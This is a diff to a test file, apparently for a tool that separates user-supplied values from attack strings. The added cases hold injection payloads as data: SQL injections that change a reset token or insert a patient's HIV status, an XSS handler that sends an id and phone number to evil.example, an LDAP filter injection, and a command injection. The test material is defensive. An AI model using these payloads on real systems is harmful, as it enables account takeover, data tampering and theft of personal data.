@@ -15,6 +15,23 @@ describe('values in a match', () => {
       '0655501277',
       'j.kuiper%40mail.example',
     ],
+    [
+      "x'; UPDATE a SET reset_token='o3Kh_8NxgXht30' WHERE email='i.b%40mail.example';--",
+      'o3Kh_8NxgXht30',
+      'i.b%40mail.example',
+    ],
+    [
+      "0'; INSERT INTO Patients VALUES('Hartwig Dorfner', 'HIV positive')--",
+      'Hartwig Dorfner',
+      'HIV positive',
+    ],
+    [
+      '<img src=x onerror="location=\'//evil.example/?id=haneul0417&hp=010-4827-3391\'">',
+      'haneul0417',
+      '010-4827-3391',
+    ],
+    ['*)(|(mail=roswitha@stadtwerk.example)(uid=*', 'roswitha@stadtwerk.example'],
+    ['8.8.8.8; docker login -u jfelber -p x', 'jfelber'],
   ] as const) {
     it(`are not part of the attack: ${match}`, () => assert.deepEqual(found(match), values));
   }
